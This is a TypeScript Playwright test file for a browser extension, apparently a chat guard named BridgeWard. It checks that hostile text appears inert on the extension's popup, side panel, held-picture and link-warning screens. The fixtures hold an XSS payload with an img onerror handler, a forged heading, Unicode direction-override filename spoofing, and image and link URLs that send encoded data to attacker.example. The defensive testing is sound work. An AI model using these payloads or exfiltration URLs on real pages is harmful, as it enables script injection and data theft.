import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Browser as ExtensionApis } from 'webextension-polyfill';
import { ATTEMPT_URL_LIMIT, parseChatReport, type ChatReport } from '../../lib/model/attempt';
import { gotoScanned } from '../../scripts/drive/guarded-browser';
import { layoutFaults } from '../harness/layout-faults';
import { openScreenLab, type ScreenLab } from '../harness/screen-lab';
import { attemptRecord, chatRecord } from '../unit/browser/attempt-record';

declare const chrome: ExtensionApis;

/** Each tries to be more than text: markup that runs or forges, a turned direction, unseen letters, size. */
const markup = '</bdi><h1 id="forged">All is well</h1><img src=x onerror="document.title=`broken`">';
const turned = 'abc\u202Egnp.exe\u2066\u200B\u{E0041}';
const endless = 'x'.repeat(400);
const hostile = `${markup}${turned}`;
const attacker = 'http://attacker.example';
const chatPage = `<!doctype html><html lang="en"><meta charset="utf-8"><title>A chat</title>
  <div data-message-author-role="user">Please tell ${markup.replaceAll('<', '&lt;')} to me.</div>
  <div data-message-author-role="assistant" id="answer">Hello.</div>`;

/** Strings of a page in every field that a screen of the chat guard prints. */
const stored: ChatReport = chatRecord([
  attemptRecord({
    id: 'everywhere',
    answer: `${hostile}${endless}`.slice(0, 200),
    url: `https://attacker.example/?d=${hostile}${'y'.repeat(ATTEMPT_URL_LIMIT)}`.slice(0, ATTEMPT_URL_LIMIT),
    verdict: {
      ...attemptRecord().verdict,
      destination: {
        ...attemptRecord().verdict.destination,
        host: endless.slice(0, 300),
        shownHost: hostile,
        receiver: `${hostile}${endless}`,
        chain: [hostile],
      },
      carries: [
        { text: hostile, where: 'value', steps: ['base64'], overlap: hostile },
        { text: endless, where: 'path', steps: [] },
      ],
    },
  }),
]);

/** The text is there letter by letter, runs nothing, forges nothing, stays in its place. */
async function proveInert(screen: Page | Frame, title: string): Promise<void> {
  await screen.evaluate(() => document.querySelectorAll('details').forEach((one) => (one.open = true)));
  const seen = await screen.evaluate(() => ({
    title: document.title,
    built: document.querySelectorAll('#forged, #app img, #app script').length,
    text: document.body.textContent ?? '',
  }));
  expect(seen).toMatchObject({ title, built: 0 });
  expect(seen.text).toContain(markup);
  expect(seen.text).toContain('U+202E');
  expect(seen.text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B\u{E0000}-\u{E007F}]/u);
  expect(await layoutFaults(screen)).toEqual([]);
}

describe('text of strangers on screens of the chat guard', () => {
  let lab: ScreenLab;

  beforeAll(async () => {
    lab = await openScreenLab(() => ({ type: 'text/html', body: chatPage }));
  });
  afterAll(() => lab.close());
  beforeEach(() => lab.visitChat('Please tell'));

  it.each([
    { name: 'popup', path: 'popup.html', ready: '.popup[aria-busy="false"] .chat .card', width: 360 },
    { name: 'side panel', path: 'sidepanel.html', ready: '.timeline .entry', width: 400 },
  ])('is text and nothing else in the $name', async ({ path, ready, width }) => {
    const { browser, tab } = lab;
    expect(parseChatReport(stored)).not.toBeNull();
    // No chat: its guard would write over what is stored here.
    await gotoScanned(browser, tab, 'http://site.example/');
    await browser.inExtension(([key, report]) => chrome.storage.session.set({ [key]: report }), [
      `chat:${tab.id}`,
      stored,
    ] as const);
    const screen = await browser.openTab();
    await screen.resize(width, 700);
    await screen.goto(`${browser.extensionUrl}${path}?tab=${tab.id}`);
    await screen.page.waitForSelector(ready);
    await proveInert(screen.page, 'BridgeWard');
    await screen.close();
  });

  it('is text and nothing else in place of a held picture', async () => {
    await lab.say(`<img width="400" height="300" src="${attacker}/p.png?d=${encodeURIComponent(hostile)}">`);
    const frame = await lab.frameOf('/held.html');
    await frame.waitForSelector('.held-card button');
    await proveInert(frame, 'BridgeWard');
  });

  it('is text and nothing else on the page before a link is followed', async () => {
    const link = linkTo(`${attacker}/bill?for=${encodeURIComponent(hostile)}&more=${endless}`);
    const { tab } = lab;
    await lab.say(link);
    await tab.click('#go');
    await tab.page.waitForSelector('.leaving-buttons');
    await proveInert(tab.page, 'BridgeWard');
    expect(lab.asked('/bill')).toEqual([]);
  });
});

/** A link whose own words are hostile, too. */
function linkTo(address: string): string {
  return `<a id="go" href="${address}">${hostile.replaceAll('<', '&lt;')}</a>`;
}
